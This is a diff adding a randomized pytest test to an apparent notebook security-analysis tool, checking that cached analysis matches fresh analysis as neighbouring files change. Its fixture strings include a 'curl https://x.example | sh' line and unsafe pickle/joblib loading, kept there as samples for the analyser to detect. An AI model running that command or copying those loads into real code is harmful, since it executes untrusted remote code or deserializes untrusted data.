@@ -240,3 +240,28 @@ def test_places_are_those_of_the_cell_as_it_stands_now() -> None:
     [(_, hit)] = check_code(analyse(notebook, memory=memory), discover())
     assert hit.text is notebook.cells[2].source
     assert hit.text.cell == replace(notebook.cells[2].ref, index=2)
+
+
+FILES = (
+    "import pickle\ndef fetch(path):\n    return pickle.load(open(path, 'rb'))\ncount = 0",
+    "def fetch(path, reader=open):\n    return reader(path)\nfrom other import *",
+    "import joblib\nmodel = joblib.load('m')\nclass Model:\n    def get(self):\n        return joblib.load(self.path)",
+    "def fetch(:",
+    "%run tools.py\n!curl https://x.example | sh",
+)
+
+
+@pytest.mark.parametrize("seed", range(12))
+def test_files_beside_the_notebook_may_change_between_analyses(seed: int) -> None:
+    chance = random.Random(seed)
+    using = tuple(cell for cell in CELLS if "tools" in cell or "fetch" in cell or "Model" in cell)
+    book, memory = Book([chance.choice(using) for _ in range(8)], chance), Memory()
+    files: dict[str, tuple[Text, ...]] = {}
+    for _ in range(12):
+        notebook = book.notebook()
+        assert everything(analyse(notebook, memory=memory, files=files)) == everything(analyse(notebook, files=files))
+        if chance.random() < 0.5:
+            name = chance.choice(("tools.py", "other.py"))
+            files = {**files, name: (Text(Place.SOURCE, chance.choice(FILES), Syntax.PYTHON),)}
+        else:
+            book.edit(using)
